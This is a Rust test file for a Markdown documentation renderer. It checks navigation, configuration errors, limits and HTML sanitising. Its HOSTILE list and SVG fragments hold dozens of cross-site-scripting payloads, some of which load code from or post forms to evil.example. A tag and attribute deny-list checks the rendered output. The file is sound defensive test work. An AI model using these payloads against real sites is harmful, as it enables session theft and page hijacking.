//! Folders of documentation: they read as they did, what is wrong is told with its place, and nothing hostile gets out.
#![expect(clippy::unwrap_used, reason = "a test that cannot read its own files has failed")]

use std::{
    collections::BTreeMap,
    fs,
    path::Path,
    time::{Duration, Instant},
};

use formats::docs::{self, DocsLimits, NavEntry, Options, Page, Site};
use proptest::prelude::*;

#[test]
fn a_docs_folder_reads_as_it_did() {
    let files = folder("shop");
    let site = docs::site(Some(&files["mkdocs.yml"]), &files, &options()).unwrap();
    insta::with_settings!({ prepend_module_to_snapshot => false, omit_expression => true }, {
        for page in &site.pages {
            insta::assert_snapshot!(format!("docs__shop__{}", page.path.replace('/', "__")), page.html);
        }
        let mut told = serde_json::to_value(&site).unwrap();
        for page in told["pages"].as_array_mut().unwrap() {
            page.as_object_mut().unwrap().remove("html");
        }
        insta::assert_json_snapshot!("docs__shop", told);
    });
    assert_eq!(docs::site(Some(&files["mkdocs.yml"]), &files, &options()).unwrap(), site);
    for page in &site.pages {
        assert_harmless(&page.html);
    }
}

#[test]
fn docs_without_a_configuration_are_the_tree_of_their_folders() {
    let site = site(&[
        ("README.md", "# About\n[part](docs/b/one.md)"),
        ("docs/z.md", "z"),
        ("docs/a_b.md", "# Heading"),
        ("docs/b/one.md", "[up](../../README.md) [root](/z.md)"),
        ("docs/b/README.md", "x"),
        ("docs/.hidden/x.md", "x"),
    ]);
    let page = |title: &str, path: &str| NavEntry::Page { title: title.to_owned(), path: path.to_owned() };
    let entries = vec![page("B", "b/README.md"), page("One", "b/one.md")];
    assert_eq!(
        site.nav,
        [
            page("About", "README.md"),
            page("Heading", "a_b.md"),
            page("Z", "z.md"),
            NavEntry::Section { title: "B".to_owned(), entries },
        ]
    );
    assert_eq!(site.problems, []);
    assert_eq!(site.reading_order(), ["README.md", "a_b.md", "z.md", "b/README.md", "b/one.md"]);
    for (address, path) in [
        ("", "README.md"),
        ("/b/", "b/README.md"),
        ("b/one", "b/one.md"),
        ("b/one/", "b/one.md"),
        ("b/one.html", "b/one.md"),
        ("z.md", "z.md"),
    ] {
        assert_eq!(site.page(address).map(|page| page.path.as_str()), Some(path), "{address:?}");
    }
    assert!(site.page("no").is_none());
    assert!(html(&site, "b/one.md").contains("href=\"/docs/README.md\""));
}

#[test]
fn docs_that_are_the_folder_itself_need_no_docs_folder() {
    let site = site(&[("index.md", "[a](sub/a.md)"), ("sub/a.md", "# A")]);
    assert_eq!(site.pages.iter().map(|page| page.path.as_str()).collect::<Vec<_>>(), ["index.md", "sub/a.md"]);
    assert!(docs::site(None, &files(&[("notes.txt", "x")]), &options()).unwrap_err().reason.contains("add index.md"));
    let error = docs::site(Some(b"site_name: x"), &files(&[("a.md", "x")]), &options()).unwrap_err();
    assert!(error.reason.contains("add docs/index.md"), "{error}");
}

#[test]
fn docs_whose_configuration_is_wrong_are_refused_at_the_line() {
    let files = files(&[("docs/index.md", "x")]);
    for (yaml, reason, place) in [
        ("site_name: x\nnav: [", "not YAML", "mkdocs.yml: line"),
        ("site_name: x\ndocs_dir: ../elsewhere\n", "outside", "line 2"),
        ("- a\n", "mapping", "mkdocs.yml"),
        ("", "empty", "mkdocs.yml"),
        ("a: &a [x,x,x]\nb: &b [*a,*a]\na: 1", "twice", "line 3"),
    ] {
        let error = docs::site(Some(yaml.as_bytes()), &files, &options()).unwrap_err().to_string();
        assert!(error.contains(reason) && error.contains(place), "{yaml:?}: {error}");
    }
    let deep = format!("nav:\n{}", (0..30).map(|level| format!("{}- a:\n", "  ".repeat(level))).collect::<String>());
    let site = docs::site(Some(deep.as_bytes()), &files, &options());
    assert!(site.is_err() || site.unwrap().problems[0].reason.contains("deep"));
}

#[test]
fn a_page_is_edited_where_the_configuration_says() {
    let files = files(&[("docs/a b.md", "x")]);
    for (yaml, wanted) in [
        ("repo_url: https://github.com/e/x", Some("https://github.com/e/x/edit/master/docs/a%20b.md")),
        ("repo_url: https://bitbucket.org/e/x/", Some("https://bitbucket.org/e/x/src/default/docs/a%20b.md")),
        ("repo_url: https://git.example.com/e/x", None),
        ("repo_url: https://git.example.com/e/x\nedit_uri: ?q=", Some("https://git.example.com/e/x?q=a%20b.md")),
        ("repo_url: https://github.com/e/x\nedit_uri: ''", None),
        ("edit_uri: https://git.example.com/e", Some("https://git.example.com/e/a%20b.md")),
        (
            "repo_url: https://git.example.com/e\nedit_uri_template: 'w/{path_noext}/edit'",
            Some("https://git.example.com/e/w/a%20b/edit"),
        ),
        ("repo_url: 'javascript:alert(1)'\nedit_uri: x", None),
    ] {
        let site = docs::site(Some(yaml.as_bytes()), &files, &options()).unwrap();
        assert_eq!(site.pages[0].edit_url.as_deref(), wanted, "{yaml}");
    }
}

#[test]
fn a_docs_page_beyond_a_limit_is_named_and_the_others_stay() {
    let deep = "> ".repeat(200) + "x";
    let tags = "<br>".repeat(6_000);
    let open = "<div>".repeat(200);
    let files = files(&[
        ("big.md", &"x".repeat(2 << 20)),
        ("deep.md", &deep),
        ("good.md", "# Good"),
        ("open.md", &open),
        ("tags.md", &tags),
    ]);
    let site = docs::site(None, &files, &options()).unwrap();
    assert_eq!(site.pages.iter().map(|page| page.path.as_str()).collect::<Vec<_>>(), ["good.md"]);
    assert_eq!(site.nav.len(), 1, "a page that is not there stands in no navigation");
    for (file, words) in
        [("big.md", "split it"), ("deep.md", "flatter"), ("open.md", "close them"), ("tags.md", "Markdown")]
    {
        let problem = site.problems.iter().find(|problem| problem.file == file).unwrap();
        assert!(problem.reason.contains(words), "{problem:?}");
    }
    let limits = DocsLimits { pages: 2, ..DocsLimits::default() };
    let few = docs::site(None, &files, &Options { limits, ..options() }).unwrap();
    assert!(few.problems.iter().any(|problem| problem.reason.contains("split the documentation")));
    let limits = DocsLimits { problems: 2, ..DocsLimits::default() };
    let few = docs::site(None, &files, &Options { limits, ..options() }).unwrap();
    assert_eq!(few.problems.len(), 3);
    assert!(few.problems[2].reason.contains("2 more"));
}

/// A vector of each of the classes of OWASP's sheet on cross-site scripting, in what Markdown lets through.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;background:url(//evil.example)'>x</div>",
    "<div class='fixed inset-0 z-50 doc-note'>x</div>",
    "<form action='//evil.example'><input type=password name=p formaction='javascript:x'><button>ok</button></form>",
    "<a href='javascript:alert(1)'>x</a> <a href=' \u{1}javascript:alert(1)'>x</a> <a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a> <a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x' xlink:href='javascript:x' ping='//evil.example' target=_blank>x</a>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](<java\tscript:alert(1)>) [x](&#106;avascript:alert(1))",
    "[x](data:text/html,x) ![x](data:image/svg+xml,x) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://a\" onmouseover=\"alert(1)) ![a\" onerror=\"alert(1)](x.png \"t\\\" onload=\\\"x\")",
    "[x](//evil.example) [x](\\\\evil.example) [x](/\\evil.example) [x](https:javascript)",
    "# <img src=x onerror=alert(1)> {#\"onclick=x}\n\n## a\" onclick=\"x",
    "!!! note\" onclick=\"x \"<script>alert(1)</script>\"\n    <svg onload=x>\n",
    "!!! x'onclick='y \"t\"\n    b\n\n??? a \"</summary><script>x</script>\"\n    b\n",
    "> ###### \u{e000}note x\" onclick=\"y\u{e001}title\n> body\n",
    "```\"><script>alert(1)</script> title=\"\"><img onerror=x>\"\n</code></pre><script>alert(1)</script>\n```",
    "```mermaid\ngraph TD\na[\"<img src=x onerror=alert(1)>\"] --> b\nclick a href \"javascript:alert(1)\"\n```",
    "<p title='\n\n```mermaid\ngraph TD\na[\" onmouseover=alert(1) \"] --> b\n```\n\n'>",
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    "| <script>x</script> | [x](javascript:x) |\n|---|---|\n| <img onerror=x> | `</td><script>` |\n",
    "[^1\" onclick=\"x]: y\n\nz[^1\" onclick=\"x]",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>x</script>]]> <?php <script>x</script> ?>",
    "<p id=main>x</p><a name=__proto__>y</a><img name=body id=document>",
    "<details open ontoggle=alert(1)><summary onfocus=x tabindex=1 autofocus>s</summary></details>",
    "<table background=javascript:x><td background=javascript:x colspan=99999999 align='\"x'>y</td></table>",
    "<b a=1><b b=2><i onclick=x>z",
    "<xmp><p title=\"</xmp><script>x</script>\"></xmp><plaintext><script>x",
];

#[test]
fn hostile_docs_are_harmless() {
    for vector in HOSTILE {
        for text in [(*vector).to_owned(), format!("- item\n\n    !!! note\n        {vector}\n"), format!("# {vector}")]
        {
            let site = site(&[("index.md", &text), ("x.png", "")]);
            let page = &site.pages[0];
            assert_harmless(&page.html);
            assert!(!page.html.contains("inset-0") && !page.html.contains("id=\"main\""), "{}", page.html);
        }
    }
    let all = HOSTILE.join("\n\n");
    assert_harmless(html(&site(&[("index.md", &all)]), "index.md"));
}

#[test]
fn a_page_cannot_put_a_drawing_elsewhere() {
    let text = "```mermaid\ngraph TD\na --> b\n```\n";
    let drawn = site(&[("index.md", text)]);
    assert!(html(&drawn, "index.md").contains("<svg class=\"doc-diagram\""));
    let raw = site(&[("index.md", "<svg class=\"doc-diagram\"><rect/></svg>")]);
    assert!(!html(&raw, "index.md").contains("<svg"));
}

#[test]
fn a_docs_page_of_a_hundred_kilobytes_is_rendered_in_a_moment() {
    let files = folder("shop");
    let text = std::str::from_utf8(&files["docs/index.md"]).unwrap();
    let part = text.split_once("# Welcome").unwrap().1.replace("[TOC]", "");
    let long = part.repeat(100_000 / part.len() + 1);
    let files = self::files(&[("docs/index.md", &long)]);
    let begin = Instant::now();
    let site = docs::site(None, &files, &options()).unwrap();
    println!("{} bytes to {} in {:?}", long.len(), site.pages[0].html.len(), begin.elapsed());
    assert!(begin.elapsed() < Duration::from_secs(10));
}

#[test]
fn foreign_images_become_links() {
    let site = site(&[(
        "index.md",
        "![logo](https://x.example/l.png) ![](http://x.example/m.png) <img src=https://y.example/z.png alt=z>",
    )]);
    let html = html(&site, "index.md");
    assert!(html.contains("<a href=\"https://x.example/l.png\" rel=\"noopener noreferrer\">logo</a>"), "{html}");
    assert!(!html.contains("src=\"http"), "{html}");
}

#[test]
fn docs_that_are_made_to_take_long_take_a_moment() {
    let size = 200_000;
    for (name, text) in [
        ("brackets", "[".repeat(size)),
        ("links", "[a](".repeat(size / 4)),
        ("images", "![a](x ".repeat(size / 7)),
        ("stars", "*a **b ".repeat(size / 7)),
        ("ticks", "`a``b```c".repeat(size / 9)),
        ("quotes", format!("{}\n", "> ".repeat(90)).repeat(size / 181)),
        ("lists", (0..40).map(|level| format!("{}- a\n", "  ".repeat(level))).collect::<String>().repeat(100)),
        ("angles", "<a ".repeat(size / 3)),
        ("formatting", (0..90).map(|n| format!("<b a={n}>")).collect::<String>() + &"a\n\n".repeat(size / 3)),
        (
            "cells",
            (0..400).map(|n| format!("<b a={n}><table><tr><td></b></table>")).collect::<String>()
                + &"a\n\n".repeat(size / 3),
        ),
        ("blocks", format!("!!! note\n{}    x\n", "\n".repeat(size))),
        ("footnotes", "[^a] ".repeat(size / 5) + "\n\n[^a]: x\n"),
        ("headings", "# a\n".repeat(size / 4)),
        ("quotes in code", format!("```js\n{}\n```", "'\"".repeat(size / 2))),
        ("anchors", "[a](#b)\n".repeat(size / 8)),
        ("tables", format!("|{}\n|{}\n{}", "a|".repeat(1_000), "-|".repeat(1_000), "a\n".repeat(10_000))),
    ] {
        let begin = Instant::now();
        let rendered = docs::site(None, &files(&[("index.md", &text)]), &options()).unwrap();
        let took = begin.elapsed();
        // In a debug build, beside other tests.
        assert!(took < Duration::from_secs(20), "{name}: {took:?} for {} problems", rendered.problems.len());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn no_bytes_make_docs_panic_or_hostile(page in prop::collection::vec(any::<u8>(), 0..400), yaml in prop::collection::vec(any::<u8>(), 0..100)) {
        let files = BTreeMap::from([("docs/index.md".to_owned(), page.clone()), ("docs/a.md".to_owned(), b"a".to_vec())]);
        for page in docs::site(None, &files, &options()).unwrap().pages {
            assert_harmless(&page.html);
        }
        drop(docs::site(Some(&yaml), &files, &options()));
        drop(docs::svg::sanitise(&page));
    }

    #[test]
    fn no_mixture_of_markup_makes_docs_hostile(parts in prop::collection::vec(part(), 1..40)) {
        let text = parts.concat();
        let site = site(&[("index.md", &text), ("x.png", "")]);
        for Page { html, sections, .. } in &site.pages {
            assert_harmless(html);
            for section in sections.iter().filter(|section| section.level > 0) {
                prop_assert!(html.contains(&format!("id=\"{}\"", section.id)), "{text:?}: {section:?}");
            }
        }
        prop_assert!(site.problems.iter().all(|problem| problem.line.is_none_or(|line| line <= text.lines().count() + 1)));
    }

    #[test]
    fn no_mixture_makes_a_drawing_hostile(parts in prop::collection::vec(svg_part(), 1..20)) {
        if let Ok(clean) = docs::svg::sanitise(format!("<svg>{}</svg>", parts.concat()).as_bytes()) {
            let clean = String::from_utf8(clean).unwrap();
            assert_harmless(&clean);
            // In text it is a word; in a tag or behind `url(` it would be an address.
            for part in clean.split('<') {
                let (tag, text) = part.split_once('>').unwrap_or_default();
                prop_assert!(!tag.contains("evil"), "{clean}");
                prop_assert!(!tag.starts_with("style") || !(text.contains("url(//evil") || text.contains("@import")), "{clean}");
            }
            prop_assert_eq!(docs::svg::sanitise(clean.as_bytes()).unwrap(), clean.into_bytes());
        }
    }
}

fn part() -> impl Strategy<Value = String> {
    let pieces = [
        "\n",
        "\n\n",
        "    ",
        "> ",
        "- ",
        "1. ",
        "# ",
        "###### ",
        "```",
        "```mermaid\n",
        "graph TD\n",
        "a-->b\n",
        "`",
        "*",
        "**",
        "_",
        "~~",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "javascript:alert(1)",
        "x.png",
        "#a",
        "<",
        ">",
        "\"",
        "'",
        "&",
        "&quot;",
        "&#x22;",
        "&#106;",
        "<script>",
        "</script>",
        "<img src=",
        " onerror=",
        "onclick=x",
        "<svg>",
        "</svg>",
        "<style>",
        "<!--",
        "-->",
        "<a href=",
        "<b>",
        "<table>",
        "<td>",
        "| a | b |\n|---|---|\n",
        "[^1]",
        "[^1]: ",
        "!!! note",
        "!!! note \"",
        "??? tip \"",
        "=== \"",
        "> [!NOTE]\n",
        "---\n",
        "title: ",
        "[TOC]",
        "{#x}",
        "{ width=1 }",
        "\u{e000}note ",
        "\u{e001}",
        "\t",
        "\\",
        "\u{0}",
        "é",
        ": ",
        "word",
        "<details>",
        "<p id=a>",
        "<math>",
        "<title>",
        "<textarea>",
        "</p>",
        "/>",
        "=",
        "{",
        "}",
    ];
    prop_oneof![4 => prop::sample::select(pieces.to_vec()).prop_map(ToOwned::to_owned), 1 => prop::sample::select(HOSTILE.to_vec()).prop_map(ToOwned::to_owned)]
}

fn svg_part() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "<g>",
        "</g>",
        "<g/>",
        "<style>",
        "</style>",
        "<text>",
        "</text>",
        "a{fill:",
        "url(",
        "#a)",
        "//evil)",
        "@import 'evil';",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "<script>evil</script>",
        "<g onload='evil'/>",
        "<a href='https://evil'>",
        "</a>",
        "<use href='evil'/>",
        "<image href='data:image/png;base64,AA=='/>",
        "&lt;",
        "&#x6c;",
        "<foreignObject>",
        "</foreignObject>",
        "<g style='a:url(evil)'/>",
        "}",
    ])
}

/// Fails where `html` could act: in its tags, whatever its text says.
fn assert_harmless(html: &str) {
    let mut rest = html;
    while let Some(begin) = rest.find('<') {
        rest = &rest[begin + 1..];
        let name: String = rest.chars().take_while(|letter| letter.is_ascii_alphanumeric() || *letter == '/').collect();
        let name = name.to_ascii_lowercase();
        let bad = [
            "script",
            "iframe",
            "object",
            "embed",
            "style",
            "link",
            "meta",
            "base",
            "form",
            "button",
            "foreignobject",
            "math",
        ];
        let drawn = name.trim_matches('/') == "style" && html.starts_with("<svg xmlns");
        assert!(drawn || !bad.contains(&name.trim_matches('/')), "<{name} in {html}");
        // The attributes, by their quotes.
        let mut inside = rest;
        loop {
            let end = inside.find(['"', '>']).unwrap_or_else(|| panic!("a tag has no end in {html}"));
            let attribute =
                inside[..end].trim_end_matches('=').rsplit(' ').next().unwrap_or_default().to_ascii_lowercase();
            if inside[end..].starts_with('>') {
                rest = &inside[end + 1..];
                break;
            }
            let value = inside[end + 1..].split_once('"').unwrap_or_else(|| panic!("a value has no end in {html}"));
            let told = value.0.to_ascii_lowercase();
            assert!(!attribute.starts_with("on"), "{attribute} in {html}");
            assert!(attribute != "style" || html.starts_with("<svg xmlns"), "{attribute} in {html}");
            if attribute == "href" || attribute == "src" {
                let fine = ["https:", "http:", "mailto:", "#", "/docs/", "/files/", "data:image/png;base64,"];
                assert!(
                    fine.iter().any(|begin| told.starts_with(begin)) && !told.starts_with("//"),
                    "{told:?} in {html}"
                );
            }
            if attribute == "id" || attribute == "name" {
                assert!(told.starts_with("doc-") || html.starts_with("<svg xmlns"), "{told:?} in {html}");
            }
            inside = value.1;
        }
    }
}

fn html<'a>(site: &'a Site, path: &str) -> &'a str {
    &site.page(path).unwrap().html
}

fn site(given: &[(&str, &str)]) -> Site {
    docs::site(None, &files(given), &options()).unwrap()
}

fn files(given: &[(&str, &str)]) -> BTreeMap<String, Vec<u8>> {
    given.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect()
}

fn options() -> Options {
    Options { pages: "/docs/".to_owned(), assets: "/files/".to_owned(), limits: DocsLimits::default() }
}

fn folder(name: &str) -> BTreeMap<String, Vec<u8>> {
    fn add(root: &Path, folder: &Path, files: &mut BTreeMap<String, Vec<u8>>) {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                add(root, &path, files);
            } else {
                let name = path.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
                files.insert(name, fs::read(path).unwrap());
            }
        }
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/docs").join(name);
    let mut files = BTreeMap::new();
    add(&root, &root, &mut files);
    files
}
